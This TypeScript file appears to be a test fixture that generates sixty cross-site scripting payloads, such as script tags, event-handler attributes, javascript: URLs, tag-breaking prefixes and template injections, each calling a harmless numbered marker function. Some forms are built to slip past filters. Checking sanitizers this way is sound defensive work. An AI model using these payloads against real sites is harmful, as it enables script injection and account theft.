// Sixty texts that try to become code where a page takes them for mark-up, an address, a style or a script; each calls `planted` with its number.

/** `planted` may stand behind a name that a filter looks for, or not. */
const calls: readonly ((number: number) => string)[] = [
  (number) => `planted(${number})`,
  (number) => `top['plan'+'ted'](${number})`,
];

const shapes: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `"><script>${code}</script>`,
  (code) => `'><script>${code}</script>`,
  (code) => `</script><script>${code}</script>`,
  (code) => `</title><script>${code}</script>`,
  (code) => `</textarea><script>${code}</script>`,
  (code) => `<scr<script>ipt>${code}</script>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<IMG SRC=x OnErRoR=${code}>`,
  (code) => `"><img src=x onerror=${code}>`,
  (code) => `<img/src=x/onerror=${code}>`,
  (code) => `<svg onload="${code}">`,
  (code) => `<svg/onload=${code}>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<math><mtext><img src=x onerror=${code}>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<a href="javascript:${code}" autofocus>p</a>`,
  (code) => `javascript:${code}`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `<video><source onerror=${code}></video>`,
  (code) => `<audio src=x onerror=${code}>`,
  (code) => `<body onload=${code}>`,
  (code) => `<style onload=${code}></style>`,
  (code) => `<object data="javascript:${code}">`,
  (code) => `" onmouseover=${code} x="`,
  (code) => `{{constructor.constructor('${code.replaceAll("'", '')}')()}}`,
  (code) => `\${${code}}`,
];

/** By number, from 1; each at most 95 letters, which is what the shortest name may have. */
export const scriptPayloads: readonly string[] = calls.flatMap((call, round) =>
  shapes.map((shape, at) => shape(call(round * shapes.length + at + 1))),
);
